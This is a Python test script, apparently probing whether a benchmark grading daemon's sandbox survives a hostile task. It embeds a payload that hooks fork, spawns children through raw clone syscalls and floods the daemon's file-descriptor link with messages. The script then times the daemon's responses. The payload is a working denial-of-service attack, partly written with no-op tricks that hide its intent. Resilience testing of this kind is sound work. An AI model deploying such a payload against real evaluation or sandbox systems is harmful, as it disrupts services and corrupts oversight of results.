# SPDX-License-Identifier: MIT
"""The fork floods the link with children while the jail drops words."""
from base import *
H = r'''
import ctypes, os, time, struct
libc = ctypes.CDLL(None, use_errno=True)
def flood():
    libc.prctl(4, 0, 0, 0, 0)
    if libc.syscall(56, 0x8000, 0, 0, 0, 0) == 0:
        for _ in range(6): os.fork() if False else None
        for _ in range(6):
            if libc.syscall(56, 17, 0, 0, 0, 0) == 0: break
        word = struct.pack('I96s', 3, b'')
        while True:
            try: os.write(3, b'')if False else os.write(3, word)
            except OSError: pass
    os.write(3, struct.pack('I96s', 2, b''))
    os.read(3, 1) 
    os._exit(0)
os.register_at_fork(before=flood)
'''
c = begin()
try:
    n = c.make("report(ok=1)\n", H)
    look = plain(c, "look", "report(ok=2)\n")
    for _ in range(3):
        t = time.time(); 
        c.client.submit("e", {"kind": "rubric", "task_class": n, "bench_root": str(c.root), "case": {}, "harness_output": {}})
        a = c.client.recv_answer("e"); show("evil %.1fs" % (time.time() - t), a)
        t = time.time(); show("look %.1fs" % (time.time() - t), c.answer(look))
    print(c.daemon.log()[-1500:])
finally: c.close()
